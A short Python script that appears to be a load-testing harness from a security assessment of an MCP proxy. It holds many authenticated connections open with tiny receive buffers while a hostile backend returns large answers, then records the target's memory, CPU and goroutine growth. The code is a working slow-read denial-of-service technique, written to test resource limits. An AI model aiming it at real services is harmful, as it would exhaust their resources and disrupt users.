#!/usr/bin/env python3
"""unread14b.py DIR TARGET CONNS HOLD IDS...: CONNS connections per identity each POST one MCP
tools/call (TOOL, default call_tool of evil/echo through the proxy; ARGS json) on the identity's
session with a 4 KB receive buffer and read nothing for HOLD s (the answer held by the target);
prints the target's RSS/CPU/goroutines every 2 s and the status lines seen. With the hostile backend
in "bigcall MB" each held answer is MB megabytes. TARGET=PROXY|MCP."""
import os, sys, json, time, socket, urllib.request
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'amp10a')); import mcp10
d, target, conns, hold, ids = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5:]
env = dict(l.strip().split('=', 1) for l in open(os.path.join(d, 'env')) if '=' in l)
tok = {l.split()[0]: l.split()[2] for l in open(os.path.join(d, 'tokens'))}
pid = env['PROXY_PID'] if target == 'PROXY' else env['PID']
met = env['PROXY_METRICS'] if target == 'PROXY' else env['METRICS']
tool = os.environ.get('TOOL', 'call_tool')
args = json.loads(os.environ.get('ARGS', '{"server":"evil","tool":"echo","arguments":{"q":"hi"}}'))
def st():
    s = {l.split(':')[0]: int(l.split()[1]) // 1024 for l in open(f'/proc/{pid}/status') if l.startswith(('VmRSS', 'VmHWM'))}
    f = open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()
    try: g = [l.split()[1] for l in urllib.request.urlopen(f'http://{met}/metrics', timeout=5).read().decode().splitlines() if l.startswith('go_goroutines ')][0]
    except Exception: g = '?'
    return 'RSS %d MB (peak %d) cpu %.1fs goroutines %s load %s' % (s['VmRSS'], s['VmHWM'], (int(f[11]) + int(f[12])) / 100, g, open('/proc/loadavg').read().split()[0])
host, port = env[target].split(':')
sids = {who: mcp10.Session(env[target], tok[who]).sid for who in ids}
print('before', st(), flush=True)
socks = []; n = 0
for i in range(conns):
    for who in ids:
        n += 1
        body = json.dumps({'jsonrpc': '2.0', 'id': n, 'method': 'tools/call', 'params': {'name': tool, 'arguments': args}}).encode()
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            s.connect((host, int(port)))
            s.sendall(b'POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\n'
                      b'Accept: application/json, text/event-stream\r\nMcp-Session-Id: %s\r\nMcp-Protocol-Version: 2025-06-18\r\n'
                      b'Content-Length: %d\r\n\r\n%s' % (tok[who].encode(), sids[who].encode(), len(body), body))
            socks.append(s)
        except Exception as e:
            print('conn', e); break
print('sent %d' % len(socks), st(), flush=True)
for k in range(hold // 2):
    time.sleep(2); print('%3ds' % (2 * k + 2), st(), flush=True)
seen = {}
for s in socks:
    s.settimeout(0.05)
    try: l = s.recv(64).split(b'\r\n')[0]
    except Exception as e: l = type(e).__name__.encode()
    seen[l] = seen.get(l, 0) + 1
print('status lines', seen)
for s in socks: s.close()
time.sleep(3); print('after close', st())
